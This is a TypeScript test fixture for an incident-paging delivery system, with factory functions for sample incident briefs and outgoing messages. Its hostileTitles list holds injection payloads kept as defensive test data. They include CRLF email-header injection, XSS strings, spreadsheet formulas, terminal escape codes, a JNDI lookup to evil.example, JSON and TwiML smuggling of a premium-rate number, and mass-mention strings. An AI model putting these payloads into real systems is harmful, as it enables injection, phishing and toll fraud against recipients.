import type { Brief, OutMessage } from '../../shared/delivery/message.ts';
import { idOf, mondayNight } from './entries.ts';

/** One incident as a message tells of it. */
export function brief(more: Partial<Brief> = {}): Brief {
  return {
    id: idOf('incident'),
    number: 42,
    epoch: 1,
    title: 'Disk full on db1',
    severity: 'critical',
    service: 'Checkout',
    runbook: 'https://example.org/runbooks/checkout',
    isTest: false,
    stage: 'detected',
    since: mondayNight,
    answerAt: 'https://relay.example.org/a/TOKEN',
    ...more,
  };
}

/** A page to a person about one incident, or about those given. */
export function message(more: Partial<OutMessage> = {}): OutMessage {
  return {
    id: idOf('delivery'),
    what: 'page',
    isRoom: false,
    reason: 'first',
    incidents: [brief()],
    language: 'en',
    zone: 'Europe/Paris',
    at: mondayNight,
    ...more,
  };
}

/** What people who mean harm write into the title of an alert: headers, mentions, markup, formulas, terminal codes, turned-round text. */
export const hostileTitles: readonly string[] = [
  'x\r\nBcc: everybody@example.org\r\n\r\nhello',
  'x\nTo: a@b.c',
  'x\u2028Bcc: a@b.c',
  'x\u0085Bcc: a@b.c',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><a href="javascript:alert(1)">click</a>',
  '<!channel> <!here> <@U123> <https://evil.example|Checkout>',
  '@channel @all @everyone @here <@&1> <users/all>',
  '[click](https://evil.example) ![x](https://evil.example/p.png) **bold** `code` ~~no~~ # Title',
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-2',
  '@SUM(A1)',
  '\tx',
  '\u001b[2J\u001b]0;owned\u0007',
  'safe\u202egnp.exe',
  'a\u0000b\u200bc\ufeffd',
  '{{to}} {{text}} ${jndi:ldap://evil.example/a}',
  '"}, "to": "+1900", {"x": "',
  '&to=%2B1900&body=x',
  ']]> & \' " ` \\ %s %n',
  '\\u000aX: y',
  '</Say><Dial>+1900</Dial><Say>',
  '"] [other@1 a="b',
];
